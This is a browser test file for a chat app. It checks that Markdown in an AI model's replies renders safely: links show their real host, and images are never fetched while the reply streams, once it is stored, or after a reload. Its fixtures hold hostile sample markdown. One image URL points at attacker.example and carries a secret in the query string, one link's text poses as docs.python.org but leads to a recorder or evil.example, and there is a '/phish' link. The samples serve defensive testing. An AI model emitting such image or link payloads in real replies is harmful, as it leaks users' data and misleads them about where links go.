"""The model's Markdown in a real Chromium: a reply's list, code block (with a working Copy button),
table and link render, and nothing leaves by being shown — an image the model wrote, pointing at a
local server that records every request, is never fetched, while the reply streams, once it is
stored, or after a reload; a link whose text names another site shows where it really goes.

Turns run in the app's background pool and stream (tests/streamed.py). No sleeps: every wait is on
the DOM, a gate, or the page's load."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.helpers.browser import LONG, ask, sign_in_and_open_chat
from tests.streamed import StreamedModel

pytestmark = pytest.mark.browser

LIVE_TEXT = "#messages .turn--live [id^='text-']"
STORED = "#messages .message--assistant:not(.message--live) .markdown"

REPLY = """Here is how to publish the **Spring meetup** post:

1. Open the post and check its title.
2. Run the command below, then reload.
3. Read the [release notes](https://docs.example.org/notes) first.

```bash
flask --app wsgi demo
flask --app wsgi run   # keeps its spaces
```

| Post | Status |
|:--|:--|
| Spring meetup | draft |
| Launch notes | published |

![chart](https://attacker.example/chart.png?q=alice-secret)"""


@pytest.fixture
def app_config() -> dict[str, Any]:
    return {"TURNS_RUNNER": "pool"}


@pytest.fixture
def model(streamed: StreamedModel) -> StreamedModel:
    return streamed


@pytest.fixture
def gate() -> Iterator[threading.Event]:
    event = threading.Event()
    yield event
    event.set()


@pytest.fixture
def leak() -> Iterator[tuple[int, list[str]]]:
    """A local site that records every request it gets (its port, the paths asked for)."""
    seen: list[str] = []

    class Recorder(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", "2")
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(b"ok")

        do_POST = do_HEAD = do_GET  # noqa: N815

        def log_message(self, *args: Any) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd.server_port, seen
    httpd.shutdown()
    thread.join(timeout=5)


def test_a_reply_renders_its_list_code_table_and_link_and_code_copies(page, server, model, shots):
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server)
    model.enqueue(REPLY)
    sign_in_and_open_chat(page, server)
    ask(page, "How do I publish it? **not bold**")
    reply = page.locator(STORED)
    expect(reply.locator("ol > li")).to_have_count(3, timeout=LONG)
    expect(reply.locator("strong")).to_have_text("Spring meetup")
    expect(reply.locator("table tbody tr")).to_have_count(2)
    code = reply.locator("pre code")
    expect(code).to_have_text("flask --app wsgi demo\nflask --app wsgi run   # keeps its spaces\n")
    link = reply.locator("a", has_text="release notes")
    expect(link).to_have_attribute("href", "https://docs.example.org/notes")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")
    expect(reply).to_contain_text("release notes (docs.example.org)")
    expect(reply.locator("a.image-link")).to_have_text("image: attacker.example")
    assert page.locator("img").count() == 0
    # The person's own words stay as typed.
    expect(page.locator("#messages .message--user p")).to_have_text("How do I publish it? **not bold**")

    copy = reply.get_by_role("button", name="Copy code")
    expect(copy).to_have_count(1)
    page.evaluate("navigator.clipboard.writeText('before')")
    copy = reply.locator("button.code-copy")  # (its name changes when it has copied)
    copy.click()
    expect(copy).to_have_text("Copied")  # said once the clipboard holds it
    assert page.evaluate("navigator.clipboard.readText()") == "flask --app wsgi demo\nflask --app wsgi run   # keeps its spaces\n"
    page.get_by_label("Message").focus()  # moving on: the button says what it does again
    expect(copy).to_have_text("Copy code")
    page.locator(".chat").screenshot(path=str(shots / "markdown-reply.png"))
    assert (shots / "markdown-reply.png").stat().st_size > 0


def _requests_to(page: Any, port: int) -> list[str]:
    return [url for url in page.requested if f":{port}/" in url]


def test_nothing_the_reply_shows_is_fetched_streamed_stored_or_reloaded(page, server, model, gate, leak):
    port, seen = leak
    page.requested = []
    page.on("request", lambda request: page.requested.append(request.url))
    leaky = f"![x](http://127.0.0.1:{port}/leak?q=alice-secret)\n\n[docs.python.org](http://127.0.0.1:{port}/phish)"
    model.enqueue([leaky, "and", "that", "is", "all."], gate=gate)
    sign_in_and_open_chat(page, server)
    ask(page, "Show me the docs")

    # While it streams: the image is a link named by its host, the link shows where it goes.
    live = page.locator(LIVE_TEXT)
    expect(live.locator("a.image-link")).to_have_text(f"image: 127.0.0.1:{port}", timeout=LONG)
    expect(live).to_contain_text(f"docs.python.org (127.0.0.1:{port})")
    assert page.locator("img").count() == 0
    assert seen == [] and _requests_to(page, port) == []

    gate.set()
    reply = page.locator(STORED)
    expect(reply).to_contain_text("and that is all.", timeout=LONG)
    expect(page.locator("#messages .turn--live")).to_have_count(0, timeout=LONG)  # the stream's turn has ended
    expect(reply.locator("a.image-link")).to_have_text(f"image: 127.0.0.1:{port}")
    expect(reply).to_contain_text(f"docs.python.org (127.0.0.1:{port})")
    assert page.locator("img").count() == 0
    assert seen == [] and _requests_to(page, port) == []

    page.reload()  # the stored page: waits for its load (an <img> would hold the load event)
    reply = page.locator(STORED)
    expect(reply.locator("a.image-link")).to_have_text(f"image: 127.0.0.1:{port}")
    expect(reply.locator("a", has_text="docs.python.org")).to_have_attribute("href", f"http://127.0.0.1:{port}/phish")
    expect(reply).to_contain_text(f"docs.python.org (127.0.0.1:{port})")
    assert page.locator("img").count() == 0
    assert seen == [] and _requests_to(page, port) == []

    # The recorder does record: a page that asks it is seen first (so "nothing" above means nothing;
    # the browser may ask that page's favicon after it).
    other = page.context.new_page()
    other.goto(f"http://127.0.0.1:{port}/control")
    other.close()
    assert seen[0] == "/control" and not any("leak" in path or "phish" in path for path in seen)


NESTED = """Read [docs.python.org<ab:>](https://evil.example/) first.

See https://docs.python.org/3/ for more.

- one item

| Post | Status |
|:--|:--|
| Spring meetup | draft |"""


def test_a_link_whose_text_holds_an_autolink_still_names_its_host_and_takes_nothing_after_it(page, server, model):
    """An autolink in a link's text once closed the link early (no host label) and, refused, left
    it open: Chromium then made every paragraph, list and table after it one unlabelled link to
    evil.example. Now the page holds one link, labelled, and what follows is no link."""
    model.enqueue(NESTED)
    sign_in_and_open_chat(page, server)
    ask(page, "Where are the docs?")
    reply = page.locator(STORED)
    expect(reply.locator("table tbody tr")).to_have_count(1, timeout=LONG)
    expect(reply.locator("a")).to_have_count(1)
    expect(reply.locator("a")).to_have_attribute("href", "https://evil.example/")
    expect(reply.locator("a")).to_have_text("docs.python.org<ab:>")
    expect(reply).to_contain_text("docs.python.org<ab:> (evil.example) first.")
    expect(reply.locator("a a, a p, a li, a table")).to_have_count(0)
